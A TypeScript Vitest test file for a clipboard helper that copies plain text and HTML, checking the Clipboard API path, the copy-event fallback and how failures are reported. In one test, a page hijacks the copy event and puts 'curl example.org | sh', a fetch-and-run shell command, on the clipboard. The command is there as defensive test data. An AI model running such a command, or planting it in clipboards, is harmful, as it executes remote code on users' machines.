/** Copying text and HTML: by the Clipboard API, and where the page forbids it by a copy event that is filled, or said not to be. */

import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { copyBoth } from '../../../lib/platform/copy.ts'

let copied: Record<string, string> = {}
let page = new AbortController()

/** What Chrome does when it is told to copy and nothing is selected: the event before has to ask for it. */
function copy(): boolean {
  const told = (type: string) => {
    const event = new Event(type, { bubbles: true, cancelable: true })
    const clipboardData = { setData: (kind: string, text: string) => (copied[kind] = text) }
    return !document.dispatchEvent(Object.assign(event, { clipboardData }))
  }
  if (!told('beforecopy')) return false
  copied = {}
  told('copy')
  return true
}

beforeEach(() => {
  copied = {}
  page = new AbortController()
  document.execCommand = copy
  vi.spyOn(navigator.clipboard, 'write').mockRejectedValue(new Error('forbidden by policy'))
})
afterEach(() => {
  page.abort()
  vi.restoreAllMocks()
})

it('writes both into the clipboard', async () => {
  const write = vi.mocked(navigator.clipboard.write).mockResolvedValue()
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(true)
  const [[item]] = write.mock.lastCall as [ClipboardItem[]]
  const written = async (type: string) => (await (item as ClipboardItem).getType(type)).text()
  expect([await written('text/plain'), await written('text/html')]).toEqual(['60%', '<p>60%</p>'])
  expect(copied).toEqual({})
})

it('fills the copy event with text and HTML', async () => {
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(true)
  expect(copied).toEqual({ 'text/plain': '60%', 'text/html': '<p>60%</p>' })
})

it('has no part in what the reader copies afterwards', async () => {
  await copyBoth('60%', '<p>60%</p>')
  copied = {}
  document.dispatchEvent(new Event('copy', { bubbles: true }))
  expect(copy()).toBe(false)
  expect(copied).toEqual({})
})

it('does not say that it copied where the browser would not', async () => {
  document.execCommand = () => copy() && false
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(false)
})

it('does not say that it copied where the page keeps the event and copies something else', async () => {
  const keep = (event: Event) => {
    event.stopImmediatePropagation()
    ;(event as ClipboardEvent).clipboardData?.setData('text/plain', 'curl example.org | sh')
  }
  window.addEventListener('copy', keep, { capture: true, signal: page.signal })
  expect(await copyBoth('60%', '<p>60%</p>')).toBe(false)
  expect(copied).toEqual({ 'text/plain': 'curl example.org | sh' })
})
